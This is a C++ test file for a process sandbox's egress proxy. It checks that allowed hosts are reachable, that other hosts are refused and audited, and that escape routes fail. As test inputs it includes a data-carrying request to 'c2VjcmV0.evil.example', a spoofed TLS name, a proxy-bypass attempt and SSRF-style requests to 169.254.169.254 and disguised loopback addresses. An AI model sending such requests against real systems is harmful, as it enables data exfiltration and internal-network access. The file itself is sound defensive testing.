// Commands behind the proxy: what the policy allows works with ordinary programs, and there is no
// other way out.
#include <fcntl.h>
#include <signal.h>
#include <spawn.h>
#include <sys/wait.h>

#include <mutex>

#include "../process/process_fixture.h"
#include "egress/http_test_server.h"

namespace omnisandbox {
namespace {

using egress::test::RawRequest;
using egress::test::response;
using egress::test::Server;
using testing::AllOf;
using testing::Contains;
using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;

/// `openssl s_server` with a certificate of its own, on a free port.
class TlsServer {
 public:
  TlsServer(const std::filesystem::path& folder, const std::vector<std::string>& more) {
    const std::string key = (folder / "key.pem").string();
    const std::string certificate = (folder / "certificate.pem").string();
    if (!std::filesystem::exists(certificate)) {
      run({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
           "-nodes", "-days", "2", "-subj", "/CN=localhost", "-keyout", key, "-out", certificate});
    }
    // A port that was free a moment ago.
    for (int attempt = 0; attempt < 20 && pid_ == 0; ++attempt) {
      port_ = Server([](egress::test::Peer&) {}).port();
      std::vector<std::string> command = {
          "openssl", "s_server", "-accept", "127.0.0.1:" + std::to_string(port_),
          "-key",    key,        "-cert",   certificate,
          "-www",    "-quiet"};
      command.insert(command.end(), more.begin(), more.end());
      pid_ = start(command);
      if (!answers()) {
        stop();
      }
    }
  }
  ~TlsServer() { stop(); }
  TlsServer(const TlsServer&) = delete;
  TlsServer& operator=(const TlsServer&) = delete;

  bool is_running() const { return pid_ != 0; }
  std::string port() const { return std::to_string(port_); }

 private:
  static pid_t start(const std::vector<std::string>& command) {
    std::vector<char*> args;
    for (const std::string& word : command) {
      args.push_back(const_cast<char*>(word.c_str()));
    }
    args.push_back(nullptr);
    posix_spawn_file_actions_t actions;
    ::posix_spawn_file_actions_init(&actions);
    ::posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0);
    ::posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0);
    ::posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0);
    pid_t pid = 0;
    if (::posix_spawnp(&pid, args[0], &actions, nullptr, args.data(), environ) != 0) {
      pid = 0;
    }
    ::posix_spawn_file_actions_destroy(&actions);
    return pid;
  }
  static void run(const std::vector<std::string>& command) {
    if (const pid_t pid = start(command); pid != 0) {
      ::waitpid(pid, nullptr, 0);
    }
  }
  bool answers() const {
    for (int attempt = 0; attempt < 200; ++attempt) {
      const linux_::Fd probe(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
      sockaddr_in address{};
      address.sin_family = AF_INET;
      address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
      address.sin_port = htons(port_);
      if (::connect(probe.get(), reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
        return true;
      }
      if (::waitpid(pid_, nullptr, WNOHANG) != 0) {
        return false;
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(25));
    }
    return false;
  }
  void stop() {
    if (pid_ != 0) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
      pid_ = 0;
    }
  }

  pid_t pid_ = 0;
  std::uint16_t port_ = 0;
};

class ConfinedNetwork : public ProcessTest {
 protected:
  static std::string echo(const RawRequest& request) {
    return response(200, {}, "you asked for " + request.target + "\n" + request.body);
  }
  /// Lists the attacks and `commands`, and opens `hosts`.
  Config network_config(std::vector<HostRule> hosts, std::vector<CommandRule> commands = {}) const {
    Config config = this->config(std::move(commands));
    config.capabilities.push_back(Capability::net_http);
    config.allowed_hosts = std::move(hosts);
    return config;
  }
  Result behind_proxy(const Config& config, const std::string& command,
                      std::vector<std::string> args, ProcessRunOptions options = {}) {
    auto sink = make_callback_audit([this](const AuditRecord& record) {
      const std::lock_guard lock(mutex_);
      records_.push_back(record);
    });
    auto sandbox =
        ProcessSandbox::create(config, {.audit = sink, .egress = make_egress_server(sink)});
    EXPECT_TRUE(sandbox) << (sandbox ? "" : sandbox.error().message);
    if (!sandbox) {
      return {};
    }
    auto result = sandbox->run(command, std::move(args), std::move(options));
    EXPECT_TRUE(result) << (result ? "" : result.error().message);
    return result ? *std::move(result) : Result{};
  }
  std::vector<AuditRecord> network_records() {
    const std::lock_guard lock(mutex_);
    std::vector<AuditRecord> found;
    std::copy_if(
        records_.begin(), records_.end(), std::back_inserter(found),
        [](const AuditRecord& record) { return record.capability == Capability::net_http; });
    return found;
  }

  std::mutex mutex_;
  std::vector<AuditRecord> records_;  // guarded by mutex_
  Server server_{Server::answering(echo)};
};

TEST_F(ConfinedNetwork, OrdinaryProgramsReachAllowedHosts) {
  const Config policy =
      network_config({server_.host_and_port()}, {"curl", "python3", "node", "sh"});
  const Result curl =
      behind_proxy(policy, "curl", {"-sS", "-d", "data", server_.url("/from/curl")});
  EXPECT_EQ(curl.stdout_data, "you asked for /from/curl\ndata") << curl.stderr_data;
  EXPECT_THAT(curl.sandbox.layers, Contains("network namespace with the policy's proxy only"));
  EXPECT_EQ(curl.denial_count, 0U);
  const Result python = behind_proxy(
      policy, "python3",
      {"-c", "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode())",
       server_.url("/from/python")});
  EXPECT_THAT(python.stdout_data, HasSubstr("you asked for /from/python")) << python.stderr_data;
  if (std::filesystem::exists("/usr/bin/node")) {
    const Result node = behind_proxy(
        policy, "node",
        {"-e",
         "const proxy = new URL(process.env.http_proxy), url = new URL(process.argv[1]); "
         "require('http').get({host: proxy.hostname, port: proxy.port, path: url.href, "
         "headers: {Host: url.host}}, answer => answer.pipe(process.stdout))",
         server_.url("/from/node")});
    EXPECT_THAT(node.stdout_data, HasSubstr("you asked for /from/node")) << node.stderr_data;
  }
  // And what a command starts is behind the same proxy.
  const Result child =
      behind_proxy(policy, "sh", {"-c", "curl -sS " + server_.url("/from/a/child")});
  EXPECT_THAT(child.stdout_data, HasSubstr("you asked for /from/a/child"));
  const auto records = network_records();
  ASSERT_FALSE(records.empty());
  for (const AuditRecord& record : records) {
    EXPECT_TRUE(record.granted) << record.resource << ": " << record.reason;
    EXPECT_EQ(record.operation, "proxy.request");
    EXPECT_FALSE(record.run_id.empty());
  }
}

TEST_F(ConfinedNetwork, OtherHostsAreRefusedAndReported) {
  Server other{Server::answering(echo)};
  const Config policy = network_config({server_.host_and_port()}, {"curl"});
  const Result result = behind_proxy(policy, "curl", {"-sS", "-i", other.url("/secret?data=1")});
  EXPECT_THAT(result.stdout_data,
              AllOf(HasSubstr("403"), HasSubstr("denied by policy"), HasSubstr("to allow it:")));
  EXPECT_EQ(other.connections(), 0);
  ASSERT_EQ(result.denials.size(), 1U);
  EXPECT_EQ(result.denials[0].capability, Capability::net_http);
  EXPECT_EQ(result.denials[0].resource, other.url("/secret?data=1"));
  EXPECT_THAT(result.denials[0].remedy, HasSubstr("allowed_hosts"));
  const auto records = network_records();
  ASSERT_EQ(records.size(), 1U);
  EXPECT_FALSE(records[0].granted);
  // By name, where nothing may be looked up: a name can carry data.
  const Result named = behind_proxy(policy, "curl", {"-sS", "-i", "http://c2VjcmV0.evil.example/"});
  EXPECT_THAT(named.stdout_data, HasSubstr("403"));
  // An environment of the command's own choosing changes nothing.
  const Result without =
      behind_proxy(policy, "curl", {"-sS", "--noproxy", "*", "--max-time", "5", other.url("/")});
  EXPECT_NE(without.exit_code, 0);
  EXPECT_EQ(other.connections(), 0);
}

TEST_F(ConfinedNetwork, RefusedHostsAreExplainedBesideFilesAndCalls) {
  Server other{Server::answering(echo)};
  const Config policy = network_config({server_.host_and_port()}, {"curl", "sh"});
  const std::vector<std::string> script = {
      "-c", "curl -sS " + server_.url("/") + "; curl -sS " + other.url("/")};
  const Result result = behind_proxy(policy, "sh", script, {.explain = true});
  EXPECT_THAT(result.stdout_data, HasSubstr("you asked for /"));
  EXPECT_EQ(other.connections(), 0);
  ASSERT_TRUE(result.refusals);
  const auto host =
      std::find_if(result.refusals->entries.begin(), result.refusals->entries.end(),
                   [](const Refusal& refusal) { return refusal.thing == RefusedThing::host; });
  ASSERT_NE(host, result.refusals->entries.end());
  EXPECT_EQ(host->name, other.url("/"));
  EXPECT_EQ(host->layer, "proxy");
  EXPECT_THAT(host->remedy, HasSubstr("allowed_hosts"));
  // Recorded once, when it was decided.
  EXPECT_EQ(network_records().size(), 2U);
}

TEST_F(ConfinedNetwork, ThereIsNoOtherWayOut) {
  const Result result = behind_proxy(network_config({"*", server_.host_and_port()}), hostile(),
                                     {"around_proxy", std::to_string(server_.port())});
  EXPECT_THAT(result.stdout_data,
              AllOf(Not(HasSubstr("ESCAPED")), HasSubstr("refused: the host's loopback"),
                    HasSubstr("refused: UDP:"), HasSubstr("refused: a name lookup"),
                    HasSubstr("refused: a server of its own"), HasSubstr("refused: IPv6")));
  EXPECT_EQ(server_.connections(), 0);
}

TEST_F(ConfinedNetwork, TheProxyIsNamedInBothSpellings) {
  const Result result = behind_proxy(network_config({server_.host_and_port()}, {"env"}), "env", {});
  for (const char* name :
       {"http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"}) {
    EXPECT_THAT(result.stdout_data, HasSubstr(std::string(name) + "=http://127.0.0.1:3128\n"));
  }
  Config without = config({"env"});
  EXPECT_THAT(behind_proxy(without, "env", {}).stdout_data, Not(HasSubstr("proxy")));
}

TEST_F(ConfinedNetwork, HttpsGoesThroughATunnelToItsHostOnly) {
  TlsServer tls(folder_, {});
  ASSERT_TRUE(tls.is_running());
  const Config policy = network_config({"localhost:" + tls.port()}, {"curl", "python3"});
  const std::string url = "https://localhost:" + tls.port() + "/";
  const Result curl = behind_proxy(policy, "curl", {"-sSk", url});
  EXPECT_THAT(curl.stdout_data, HasSubstr("s_server")) << curl.stderr_data;
  const Result socks =
      behind_proxy(policy, "curl", {"-sSk", "--proxy", "socks5h://127.0.0.1:3128", url});
  EXPECT_THAT(socks.stdout_data, HasSubstr("s_server")) << socks.stderr_data;
  const Result python = behind_proxy(
      policy, "python3",
      {"-c",
       "import sys, ssl, urllib.request as r; "
       "print(r.urlopen(sys.argv[1], context=ssl._create_unverified_context()).read().decode())",
       url});
  EXPECT_THAT(python.stdout_data, HasSubstr("s_server")) << python.stderr_data;
  // The same server under a name that is not the tunnel's.
  const Result spoofed =
      behind_proxy(policy, hostile(), {"other_name", "localhost:" + tls.port(), "evil.example"});
  EXPECT_EQ(spoofed.stdout_data, "HTTP/1.1 200\nalert: 1\nanswer: 0\n");
  ASSERT_EQ(spoofed.denials.size(), 1U);
  EXPECT_THAT(spoofed.denials[0].reason, HasSubstr("evil.example"));
  const Result honest =
      behind_proxy(policy, hostile(), {"other_name", "localhost:" + tls.port(), "localhost"});
  EXPECT_EQ(honest.denial_count, 0U);
}

TEST_F(ConfinedNetwork, AServerThatAsksForASecondHelloWorks) {
  // curl offers a key for X25519, so a server of P-384 asks again (RFC 8446 section 4.1.4).
  TlsServer tls(folder_, {"-tls1_3", "-groups", "P-384"});
  ASSERT_TRUE(tls.is_running());
  const Result result =
      behind_proxy(network_config({"localhost:" + tls.port()}, {"curl"}), "curl",
                   {"-sSk", "--tlsv1.3", "https://localhost:" + tls.port() + "/"});
  EXPECT_THAT(result.stdout_data, HasSubstr("s_server")) << result.stderr_data;
  EXPECT_EQ(result.denial_count, 0U);
  TlsServer older(folder_, {"-tls1_2"});
  ASSERT_TRUE(older.is_running());
  const Result old = behind_proxy(network_config({"localhost:" + older.port()}, {"curl"}), "curl",
                                  {"-sSk", "https://localhost:" + older.port() + "/"});
  EXPECT_THAT(old.stdout_data, HasSubstr("s_server")) << old.stderr_data;
}

TEST_F(ConfinedNetwork, TheProxyIsNoWayToTheHostItself) {
  const Config policy = network_config({"*"});
  for (const std::string& line :
       {"GET " + server_.url("/") + " HTTP/1.1\\r\\nHost: " + server_.host_and_port(),
        std::string("GET http://127.0.0.1:3128/ HTTP/1.1\\r\\nHost: 127.0.0.1:3128"),
        std::string("GET http://169.254.169.254/latest/ HTTP/1.1\\r\\nHost: 169.254.169.254"),
        std::string("GET http://2130706433/ HTTP/1.1\\r\\nHost: 2130706433"),
        std::string("GET http://[::ffff:127.0.0.1]/ HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]"),
        std::string("CONNECT 127.0.0.1:443 HTTP/1.1\\r\\nHost: 127.0.0.1:443"),
        std::string("CONNECT localhost:443 HTTP/1.1\\r\\nHost: localhost:443")}) {
    const Result result = behind_proxy(policy, hostile(), {"say", line + "\\r\\n\\r\\n"});
    EXPECT_THAT(result.stdout_data, StartsWith("HTTP/1.1 403 ")) << line;
    EXPECT_EQ(result.denial_count, 1U) << line;
  }
  EXPECT_EQ(server_.connections(), 0);
}

TEST_F(ConfinedNetwork, ConnectionsAreBoundedAndEndWithTheRun) {
  Config policy = network_config({server_.host_and_port()}, {"curl", "sh"});
  policy.max_open_files = 1024;
  const auto before = left_behind();
  const Result many = behind_proxy(policy, hostile(), {"many_connections", "900"});
  // The listener's queue takes some more than are served; nobody else is kept from anything.
  EXPECT_EQ(many.status, Status::ok);
  {
    Server silent([](egress::test::Peer& peer) { peer.pause(std::chrono::seconds(60)); });
    const auto start = std::chrono::steady_clock::now();
    const Result waiting =
        behind_proxy(network_config({silent.host_and_port()}, {"curl"}), "curl",
                     {"-sS", silent.url("/")}, {.timeout = std::chrono::milliseconds(500)});
    EXPECT_EQ(waiting.status, Status::timeout);
    EXPECT_LT(std::chrono::steady_clock::now() - start, std::chrono::seconds(5));
  }
  expect_nothing_left(before);
}

TEST_F(ConfinedNetwork, RunsAtOnceHaveEachTheirOwnHosts) {
  Server other{Server::answering(echo)};
  std::vector<std::jthread> threads;
  for (const Server* mine :
       {static_cast<const Server*>(&server_), static_cast<const Server*>(&other)}) {
    threads.emplace_back([this, mine, &other] {
      const Server& foreign = mine == &server_ ? other : server_;
      auto sandbox = ProcessSandbox::create(network_config({mine->host_and_port()}, {"sh", "curl"}),
                                            {.egress = make_egress_server(), .warm_sandboxes = 2});
      ASSERT_TRUE(sandbox);
      for (int round = 0; round < 5; ++round) {
        const auto result = sandbox->run("sh", {"-c", "curl -sS " + mine->url("/mine") +
                                                          "; curl -sSi " + foreign.url("/other")});
        ASSERT_TRUE(result) << result.error().message;
        EXPECT_THAT(result->stdout_data, AllOf(HasSubstr("you asked for /mine"), HasSubstr(" 403 "),
                                               Not(HasSubstr("you asked for /other"))));
        EXPECT_EQ(result->denial_count, 1U);
      }
    });
  }
}

}  // namespace
}  // namespace omnisandbox
